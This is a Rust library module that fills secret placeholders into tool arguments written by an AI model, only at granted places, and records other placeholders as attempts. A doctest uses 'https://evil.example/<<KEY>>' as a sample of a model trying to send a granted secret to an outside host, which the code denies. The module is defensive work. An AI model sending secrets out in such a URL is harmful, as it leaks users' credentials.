//! Arguments that a model wrote: data, in which only what was granted becomes values.

mod attempt;
mod reader;

use std::borrow::Cow;
use std::fmt;

use secrecy::ExposeSecret;

pub use attempt::Attempt;
pub(super) use attempt::Attempts;
pub(super) use reader::{Reader, check_lines};

use super::engine::Engine;
use super::fill_text;
use super::grants::{Grant, Grants};
use super::plan::{Plan, References};
use super::resolve_ext::{look_up, sealed};
use crate::error::Result;
use crate::resolve::{Resolved, Resolver, Used, Wipe};
use crate::target::{Target, UnknownNames};

impl Engine {
    /// Resolves what a model wrote for a tool: the placeholders that `grants` lists, and nothing
    /// else. One look-up for all of them, or none.
    ///
    /// A placeholder of a granted name, without a version, becomes a value, with the filters that
    /// it has. All other text stays byte for byte as it is: other placeholders, also those with a
    /// version or an unknown filter, what only means to be a placeholder, escapes with their marks,
    /// comments, and the keys of objects whatever the engine [says](Engine::keys). What of that is
    /// a placeholder, or meant to be one, is reported as an [`Attempt`]. Values are never read
    /// again. A whole string of Julep's with a field that is not granted stays as a whole.
    ///
    /// ```
    /// # #[cfg(feature = "json")] {
    /// use keyslot::secrecy::ExposeSecret;
    /// use keyslot::template::{Engine, Grants};
    /// use keyslot::{ErrorKind, Target, Variables};
    /// use serde_json::json;
    ///
    /// let variables = Variables::new().with("KEY", "t0ken")?.with("OTHER", "of no concern")?;
    /// let grants = Grants::new().name_at("KEY", "/headers/*")?;
    /// let resolve = |args| Engine::new().resolve_model_args(&variables, &Target::tool("fetch"), &args, &grants);
    ///
    /// let args = resolve(json!({"headers": {"X-Key": "<<KEY>>"}, "note": "<<OTHER>> <<$secret.AWS>>"}))?;
    /// assert_eq!(args.expose_secret()["headers"]["X-Key"], "t0ken");
    /// assert_eq!(args.expose_secret()["note"], "<<OTHER>> <<$secret.AWS>>");
    /// assert_eq!(args.attempts()[1].reference().map(ToString::to_string).as_deref(), Some("<<$secret.AWS>>"));
    ///
    /// // A granted name at another place: the model is about to send it somewhere else.
    /// let error = resolve(json!({"url": "https://evil.example/<<KEY>>"})).unwrap_err();
    /// assert_eq!((error.kind(), error.pointer()), (ErrorKind::Denied, Some("/url")));
    /// # }
    /// # Ok::<(), keyslot::Error>(())
    /// ```
    ///
    /// # Errors
    ///
    /// [`Denied`](crate::ErrorKind::Denied) for each placeholder that would become a value but for
    /// its place, and for one in a header of several lines, because the model would choose the
    /// header that the value goes into; both before anything is looked up; those of
    /// [`resolve`](Engine::resolve), except for syntax, which is never wrong here. A granted name
    /// that nobody knows is an error, whatever the target [says](Target::with_unknown_names).
    pub fn resolve_model_args<R: Resolver + ?Sized, A: Arguments>(
        &self,
        resolver: &R,
        target: &Target,
        args: A,
        grants: &Grants,
    ) -> Result<ModelArgs<A::Output>> {
        let target = target.clone().with_unknown_names(UnknownNames::Error);
        args.resolve_granted(&self.for_model(), resolver, &target, grants)
    }
}

/// What a model can write: `&str`, `&Tree` of any format, and `&serde_json::Value` with the feature
/// `json`. Sealed.
pub trait Arguments: sealed::Sealed {
    /// What it becomes.
    type Output: Wipe;

    #[doc(hidden)]
    fn resolve_granted<R: Resolver + ?Sized>(
        self,
        engine: &Engine,
        resolver: &R,
        target: &Target,
        grants: &Grants,
    ) -> Result<ModelArgs<Self::Output>>;
}

impl<'t> Arguments for &'t str {
    type Output = Cow<'t, str>;

    fn resolve_granted<R: Resolver + ?Sized>(
        self,
        engine: &Engine,
        resolver: &R,
        target: &Target,
        grants: &Grants,
    ) -> Result<ModelArgs<Self::Output>> {
        engine.bounds().check_template(self.len())?;
        let (mut plan, mut references, mut attempts) =
            (Plan::default(), References::default(), Attempts::default());
        let is_here = |grant: &Grant| grant.reaches(|| []);
        Reader {
            engine,
            grants,
            attempts: &mut attempts,
        }
        .read(self, &mut plan, &mut references, is_here)?;
        check_lines(self, &plan, || target.surface())?;
        let outcomes = look_up(resolver, references.list(), target)?;
        Ok(ModelArgs::new(
            fill_text(engine, self, &plan, references.list(), target, outcomes)?,
            attempts,
        ))
    }
}

/// Resolved arguments, and what in them was not granted. As careful with its values as
/// [`Resolved`].
pub struct ModelArgs<T: Wipe> {
    resolved: Resolved<T>,
    attempts: Attempts,
}

impl<T: Wipe> ModelArgs<T> {
    pub(super) fn new(resolved: Resolved<T>, attempts: Attempts) -> Self {
        Self { resolved, attempts }
    }

    /// The arguments with the granted values in them.
    pub fn resolved(&self) -> &Resolved<T> {
        &self.resolved
    }

    /// As [`resolved`](ModelArgs::resolved), to keep.
    pub fn into_resolved(self) -> Resolved<T> {
        self.resolved
    }

    /// Which secrets and variables went in, each once, in the order of the arguments.
    pub fn used(&self) -> Vec<&Used> {
        self.resolved.used()
    }

    /// What stayed although it is a placeholder, or meant to be one; the first [`Attempt::LISTED`]
    /// in the order of the arguments, those in keys last. A diagram of Mermaid (`<<interface>>`)
    /// has some that nobody meant; what stands in the [`Secret`](crate::ReferenceKind::Secret) form was
    /// meant.
    pub fn attempts(&self) -> &[Attempt] {
        self.attempts.list()
    }

    /// How many attempts there were, also those that [`attempts`](ModelArgs::attempts) does not
    /// list.
    pub fn attempt_count(&self) -> usize {
        self.attempts.count()
    }
}

impl<T: Wipe> ExposeSecret<T> for ModelArgs<T> {
    fn expose_secret(&self) -> &T {
        self.resolved.expose_secret()
    }
}

impl<T: Wipe> fmt::Debug for ModelArgs<T> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let Self { resolved, attempts } = self;
        f.debug_struct("ModelArgs")
            .field("resolved", resolved)
            .field("attempts", &attempts.list())
            .field("attempt_count", &attempts.count())
            .finish()
    }
}
